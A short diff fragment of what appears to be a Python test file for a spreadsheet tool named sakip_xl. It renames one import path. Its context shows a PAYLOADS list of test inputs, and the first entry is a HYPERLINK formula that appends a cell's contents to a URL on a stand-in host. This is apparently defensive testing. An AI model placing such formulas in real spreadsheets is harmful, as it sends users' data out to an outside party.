@@ -14,7 +14,7 @@ from sakip_xl.cli import main
 from sakip_xl.engine import compute, tool_sheet_names
 from sakip_xl.xlsx.cells import sheet_part
 from sakip_xl.xlsx.opc import Package
-from sakip_xl.check.reviu import sheet_cells
+from sakip_xl.review.reviu import sheet_cells
 
 PAYLOADS = [
     '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
